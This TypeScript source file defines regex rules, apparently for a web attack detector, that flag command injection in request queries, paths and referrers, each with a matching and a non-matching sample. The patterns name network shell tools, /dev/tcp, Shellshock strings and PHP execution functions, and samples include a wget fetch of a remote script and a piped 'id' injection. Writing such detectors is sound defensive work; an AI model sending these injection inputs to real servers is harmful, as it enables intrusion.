import { ANYWHERE, TARGET, type AttackRule } from '../attack-rule.js';

/** Commands that nobody writes behind a separator by chance. */
const COMMAND =
  '(?:/(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ping|nslookup|dig|sleep|echo|printf|python[23]?|perl|php|ruby|powershell|cmd|dir|chmod|chown|rm|cp|mv|busybox|tftp|ifconfig|ipconfig|netstat|ps|env|printenv|sudo|kill|touch|base64|cd|tar|nohup|sed|awk|grep|find|hostname)';

/** Words for a shell or an interpreter of the server: also PHP, Java class loaders and options of php-cgi. */
export const COMMAND_INJECTION: readonly AttackRule[] = [
  {
    label: 'command-injection',
    places: ['query', 'path'],
    pattern: new RegExp(`(?:;|\\||&&|\`|\\$\\() ?${COMMAND}(?![\\w=.-])`),
    hit: 'host=127.0.0.1%7Cid',
    miss: 'a=1;id=7;sleep=no',
  },
  {
    label: 'command-injection',
    places: TARGET,
    encoded: true,
    pattern: new RegExp(`%(?:25){0,2}(?:0a|0d|26)(?:%(?:25)?20|\\+)?${COMMAND}(?:%|\\+|$)`),
    hit: 'ip=1%0Acat%20x',
    miss: 'text=one%0Atwo%26three',
  },
  {
    label: 'command-injection',
    places: ANYWHERE,
    pattern:
      /\$\{ifs|\$ifs\b|\/bin\/(?:ba|z|da|k|c|a)?sh\b|\/dev\/tcp\/|\bcmd(?:\.exe)? ?\/c\b|\bcmd\.exe\b|\bpowershell(?:\.exe)? -/,
    hit: 'login=$(echo${IFS}x|${IFS}y)',
    miss: 'q=bin/bash+history+book',
  },
  {
    label: 'command-injection',
    places: ANYWHERE,
    pattern:
      /\b(?:wget|curl)(?:\.exe)? (?:-[\w-]{1,20} ){0,4}['"]?(?:https?|ftp):\/\/|\bchmod (?:\+x|[0-7]{3,4}) |\brm -r?f|\bnc -[a-z]{1,4} |\bbash -[ci]\b|\bcd \/tmp\b/,
    hit: 'x=$(wget%20http://198.18.0.66/a.sh)',
    miss: 'q=wget+or+curl+https',
  },
  {
    label: 'command-injection',
    places: ANYWHERE,
    pattern: /\(\) ?\{ ?:?;? ?\}? ?;|\(\) ?\{ ?(?:ignored|foo|_;|:;)/,
    hit: 'x=()+%7B+:;%7D;+echo',
    miss: 'q=function()+%7B+%7D',
  },
  {
    label: 'command-injection',
    places: ANYWHERE,
    pattern:
      /<\?(?:php|=)|(?<![\w.])(?:(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|base64_decode|file_put_contents|call_user_func(?:_array)?)\(|(?:system|exec)\(['"$@\w]|(?:assert|die|print)\(['"$@])|\bthink\\?app\/?\\?invokefunction|invokefunction&/,
    hit: 's=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array',
    miss: 'q=operating+system+(linux)',
  },
  {
    label: 'command-injection',
    places: TARGET,
    pattern:
      /\b(?:allow_url_include|auto_prepend_file|disable_functions|safe_mode) ?=|\bclass\.module\.classloader\b|\b(?:getruntime\(|processbuilder\b|xmldecoder\b)|fastjson|@type["']? ?:/,
    hit: 'class.module.classLoader.URLs%5B0%5D=0',
    miss: 'class=module&loader=1',
  },
  {
    label: 'command-injection',
    places: ['query', 'referrer'],
    pattern: new RegExp(`(?:^|[?&])(?:cmd|exec|command|execute|shell)=(?:;| )?${COMMAND}(?: |\\/|;|&|$)`),
    hit: 'exec=whoami',
    miss: 'command=help',
  },
];
